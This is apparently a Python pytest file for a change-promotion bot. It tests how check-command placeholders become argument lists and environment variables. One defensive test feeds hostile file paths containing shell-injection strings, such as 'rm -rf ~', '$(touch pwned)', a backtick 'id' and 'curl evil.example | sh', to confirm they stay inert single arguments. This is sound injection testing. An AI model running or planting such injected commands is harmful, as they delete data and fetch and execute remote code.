"""What a command check receives: argument lists and environment from the change requests."""

from __future__ import annotations

import json
import shlex

import pytest

from promotion_bot.core.check_commands import plan_invocations, run_problems
from promotion_bot.core.models import Artifact, ChangeRequest, CheckSpec

SHA = "0" * 64
RULES = "configs/routing_tables/routing_rules_v1.4.2.json"
OLD_RULES = "configs/routing_tables/routing_rules_v1.4.1.json"
MODEL = "configs/models/classifier.yaml"


def change(change_id: str, change_type: str, *paths: str, current: str | None = "1.4.1"
           ) -> ChangeRequest:
    return ChangeRequest(
        change_id=change_id,
        change_type=change_type,
        target=f"{change_type}-target",
        title="t",
        proposed_version="1.4.2",
        current_version=current,
        artifacts=tuple(Artifact(path, SHA) for path in paths),
        rollback_plan="Revert.",
        source_path=f"change-requests/{change_id}.yaml",
    )


def spec(run: str, for_each: str | None = None, artifact_paths: tuple[str, ...] = ()
         ) -> CheckSpec:
    return CheckSpec("lint", tuple(shlex.split(run)), None, 60, for_each=for_each,
                     artifact_paths=artifact_paths)


RULESET_CR = change("CR-2026-0005", "ruleset", RULES)
MODEL_CR = change("CR-2026-0006", "model", MODEL, current=None)


@pytest.mark.parametrize(
    ("check", "crs", "argvs"),
    [
        # all at once: one argument per artifact
        (spec("python3 tools/ieimctl.py rules lint {artifacts}"), [RULESET_CR],
         [["python3", "tools/ieimctl.py", "rules", "lint", RULES]]),
        (spec("lint {artifacts}"), [MODEL_CR, RULESET_CR], [["lint", RULES, MODEL]]),
        # no placeholder: the command as written (the facts are in the environment)
        (spec("bash scripts/verify_pack.sh"), [RULESET_CR, MODEL_CR],
         [["bash", "scripts/verify_pack.sh"]]),
        # once per artifact
        (spec("lint --file={artifact}", "artifact"),
         [change("CR-2026-0005", "ruleset", RULES, OLD_RULES)],
         [["lint", f"--file={RULES}"], ["lint", f"--file={OLD_RULES}"]]),
        # once per change request, with its versions
        (spec("diff {current_version} {proposed_version} {artifacts}", "change_request"),
         [RULESET_CR, MODEL_CR],
         [["diff", "1.4.1", "1.4.2", RULES], ["diff", "", "1.4.2", MODEL]]),
        (spec("show {change_request} {change_id} {change_type} {target}", "change_request"),
         [RULESET_CR],
         [["show", "change-requests/CR-2026-0005.yaml", "CR-2026-0005", "ruleset",
           "ruleset-target"]]),
        # artifact_paths: only the rulesets
        (spec("lint {artifacts}", artifact_paths=("configs/routing_tables/*.json",)),
         [RULESET_CR, MODEL_CR], [["lint", RULES]]),
        (spec("lint {artifacts}", "change_request", ("configs/routing_tables/**",)),
         [RULESET_CR, MODEL_CR], [["lint", RULES]]),
    ],
    ids=["all-at-once", "two-change-requests", "no-placeholder", "per-artifact",
         "per-change-request", "change-request-fields", "artifact-paths",
         "artifact-paths-per-change-request"],
)
def test_placeholders_become_arguments(
    check: CheckSpec, crs: list[ChangeRequest], argvs: list[list[str]]
) -> None:
    plan = plan_invocations(check, crs)
    assert plan.nothing is None
    assert [list(invocation.argv) for invocation in plan.invocations] == argvs


@pytest.mark.parametrize(
    "path",
    [
        "configs/routing_tables/a b; rm -rf ~.json",
        "configs/routing_tables/$(touch pwned).json",
        "configs/routing_tables/`id`.json",
        "configs/routing_tables/it's \"quoted\".json",
        "configs/routing_tables/*.json",
        "configs/routing_tables/x.json && curl evil.example | sh",
    ],
)
def test_a_path_is_one_argument_never_shell(path: str) -> None:
    hostile = change("CR-2026-0005", "ruleset", path)
    for check in (spec("lint {artifacts}"), spec("lint {artifact}", "artifact"),
                  spec("lint --path={artifact}", "artifact")):
        (invocation,) = plan_invocations(check, [hostile]).invocations
        assert invocation.argv[0] == "lint" and len(invocation.argv) == 2
        assert invocation.argv[1].endswith(path)
        assert invocation.environment["PROMOTION_ARTIFACTS"] == path


def test_a_path_that_looks_like_an_option_is_passed_as_a_path() -> None:
    hostile = change("CR-2026-0005", "ruleset", "-rf.json")
    for check in (spec("lint {artifacts}"), spec("lint {artifact}", "artifact")):
        (invocation,) = plan_invocations(check, [hostile]).invocations
        assert invocation.argv == ("lint", "./-rf.json")
        assert invocation.environment["PROMOTION_ARTIFACTS"] == "-rf.json"


def test_the_environment_names_the_change() -> None:
    two = change("CR-2026-0005", "ruleset", RULES, OLD_RULES)
    (once,) = plan_invocations(spec("lint"), [two, MODEL_CR]).invocations
    assert once.environment == {
        "PROMOTION_ARTIFACTS": f"{RULES}\n{OLD_RULES}\n{MODEL}",
        "PROMOTION_ARTIFACTS_JSON": json.dumps([RULES, OLD_RULES, MODEL]),
        "PROMOTION_CHANGE_REQUESTS": "change-requests/CR-2026-0005.yaml\n"
        "change-requests/CR-2026-0006.yaml",
    }
    first, _second = plan_invocations(spec("lint", "artifact"), [two]).invocations
    assert first.environment == {
        "PROMOTION_ARTIFACTS": RULES,
        "PROMOTION_ARTIFACTS_JSON": json.dumps([RULES]),
        "PROMOTION_CHANGE_REQUESTS": "change-requests/CR-2026-0005.yaml",
        "PROMOTION_ARTIFACT": RULES,
        "PROMOTION_CHANGE_REQUEST": "change-requests/CR-2026-0005.yaml",
        "PROMOTION_CHANGE_ID": "CR-2026-0005",
        "PROMOTION_CHANGE_TYPE": "ruleset",
        "PROMOTION_TARGET": "ruleset-target",
        "PROMOTION_PROPOSED_VERSION": "1.4.2",
        "PROMOTION_CURRENT_VERSION": "1.4.1",
    }
    # one change request in scope: its facts are there without for_each too
    (single,) = plan_invocations(spec("lint"), [MODEL_CR]).invocations
    assert single.environment["PROMOTION_CURRENT_VERSION"] == ""
    assert single.environment["PROMOTION_PROPOSED_VERSION"] == "1.4.2"


@pytest.mark.parametrize(
    "check",
    [
        spec("lint {artifacts}", artifact_paths=("prompts/**",)),
        spec("lint {artifact}", "artifact", ("prompts/**",)),
        spec("lint {artifacts}", "change_request", ("prompts/**",)),
    ],
)
def test_a_check_about_artifacts_with_none_to_check_fails(check: CheckSpec) -> None:
    plan = plan_invocations(check, [RULESET_CR])
    assert plan.invocations == ()
    assert plan.nothing == (
        "nothing to check: CR-2026-0005 declare no artifact under prompts/** for this check; "
        "fix the check's artifact_paths in the policy"
    )


@pytest.mark.parametrize(
    ("run", "for_each", "message"),
    [
        ("lint {artifact_path}", None, "unknown placeholder {artifact_path}"),
        ("lint --files={artifacts}", None,
         "{artifacts} becomes one argument per item, so it must be an argument of its own"),
        ("lint {artifact}", None, "{artifact} names one artifact"),
        ("lint {artifact}", "change_request", "{artifact} names one artifact"),
        ("promote {proposed_version}", None, "{proposed_version} names one change request"),
    ],
)
def test_placeholders_that_cannot_work_are_refused(
    run: str, for_each: str | None, message: str
) -> None:
    problems = run_problems(shlex.split(run), for_each)
    assert [problem[0] for problem in problems] == [1]
    assert problems[0][1].startswith(message)


@pytest.mark.parametrize(
    ("run", "for_each"),
    [
        ("lint {artifacts}", None),
        ("lint {artifact}", "artifact"),
        ("promote {change_id} {proposed_version} {artifacts}", "change_request"),
        ("python3 -c 'print({})'", None),  # braces that are no placeholder are left alone
    ],
)
def test_placeholders_that_fit_are_accepted(run: str, for_each: str | None) -> None:
    assert run_problems(shlex.split(run), for_each) == []
